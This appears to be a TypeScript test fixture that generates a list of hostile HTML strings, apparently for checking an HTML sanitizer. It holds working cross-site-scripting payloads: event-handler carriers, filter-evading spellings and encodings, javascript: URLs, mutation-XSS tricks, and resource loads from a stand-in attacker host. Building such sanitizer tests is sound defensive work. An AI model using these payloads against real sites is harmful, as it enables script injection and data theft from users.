const RUN = "window.hit=1";

/** Elements that load, take focus, animate or start without interaction, with the events they fire. */
const eventCarriers: [html: (handler: string) => string, events: string[]][] = [
  [(on) => `<img src=x ${on}>`, ["onerror", "onload", "onmouseover"]],
  [(on) => `<img/src=x/${on}>`, ["onerror"]],
  [(on) => `<svg ${on}></svg>`, ["onload"]],
  [(on) => `<svg><image href=x ${on}></svg>`, ["onerror"]],
  [(on) => `<svg><animate ${on} attributeName=x dur=1s></svg>`, ["onbegin", "onend"]],
  [(on) => `<svg><set ${on} attributeName=x dur=1s></svg>`, ["onbegin"]],
  [(on) => `<video ${on}><source src=x></video>`, ["onerror", "onloadstart"]],
  [(on) => `<audio src=x ${on}></audio>`, ["onerror", "onloadstart"]],
  [(on) => `<iframe src="about:blank" ${on}></iframe>`, ["onload"]],
  [(on) => `<object data=x ${on}></object>`, ["onerror", "onload"]],
  [(on) => `<embed src=x ${on}>`, ["onerror", "onload"]],
  [(on) => `<input autofocus ${on}>`, ["onfocus", "onblur"]],
  [(on) => `<textarea autofocus ${on}></textarea>`, ["onfocus"]],
  [(on) => `<select autofocus ${on}></select>`, ["onfocus"]],
  [(on) => `<button autofocus ${on}>x</button>`, ["onfocus"]],
  [(on) => `<a href="#" autofocus tabindex=1 ${on}>x</a>`, ["onfocus", "onclick"]],
  [(on) => `<p contenteditable autofocus ${on}>x</p>`, ["onfocus"]],
  [(on) => `<details open ${on}><summary>x</summary></details>`, ["ontoggle"]],
  [(on) => `<marquee ${on}>x</marquee>`, ["onstart", "onfinish"]],
  [(on) => `<body ${on}>`, ["onload", "onpageshow", "onhashchange"]],
  [(on) => `<link rel=stylesheet href=x ${on}>`, ["onerror", "onload"]],
  [(on) => `<script src=x ${on}></script>`, ["onerror"]],
  [
    (on) => `<style>@keyframes k{}</style><p style="animation:k 1ms" ${on}>x</p>`,
    ["onanimationstart", "onanimationend"],
  ],
  [(on) => `<p style="transition:color 1ms" ${on}>x</p>`, ["ontransitionend"]],
  [(on) => `<strong ${on}>x</strong>`, ["onclick", "onmouseover", "onpointerrawupdate"]],
];

/** The same handler in spellings that careless filters miss. */
const spellings: ((event: string) => string)[] = [
  (event) => `${event}="${RUN}"`,
  (event) => `${event.toUpperCase()}='${RUN}'`,
  (event) => `${event}=${RUN.replace(/=/, "&#61;")}`,
  (event) => `x="><" ${event}\n=\n"${RUN}"`,
];

const scheme = (text: string) => [
  text,
  text.toUpperCase(),
  text.replace("s", "\ts"),
  text.replace("c", "\nc"),
  ` \u0001${text}`,
  text.replace(":", "&colon;"),
  text.replace(":", "&#x3A;"),
  text.replace("j", "&#106;").replace("v", "&#0000118;"),
];

/** Script URLs in every attribute that holds a URL. */
const addresses = scheme(`javascript:${RUN}`).flatMap((address) => [
  `<a href="${address}" class=press>x</a>`,
  `<iframe src="${address}"></iframe>`,
  `<form action="${address}"><button class=press>x</button></form>`,
  `<svg><a href="${address}"><text y=20 class=press>x</text></a></svg>`,
  `<embed src="${address}">`,
]);

const whole = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mtext></p><script>${RUN}</script></math>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.hit=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.hit=1</script>"></object>`,
  `<base href="https://mal.exemplo.com.br/"><script src=x.js></script>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<style>@import 'https://mal.exemplo.com.br/x.css';</style>`,
  `<p style="background:url(https://mal.exemplo.com.br/x.png)">x</p>`,
  `<img src="https://mal.exemplo.com.br/x.png">`,
  `<img srcset="https://mal.exemplo.com.br/x.png 1x">`,
  `<video poster="https://mal.exemplo.com.br/x.png"></video>`,
  `<a href="https://mal.exemplo.com.br" ping="https://mal.exemplo.com.br/p">x</a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<p title="<img src=x onerror=${RUN}>">x</p>`,
];

/** Hostile rich text: everything here wants to set `window.hit` or to load something from elsewhere. */
export const hostileHtml: string[] = [
  ...whole,
  ...addresses,
  ...eventCarriers.flatMap(([html, events]) => events.flatMap((event) => spellings.map((spell) => html(spell(event))))),
];
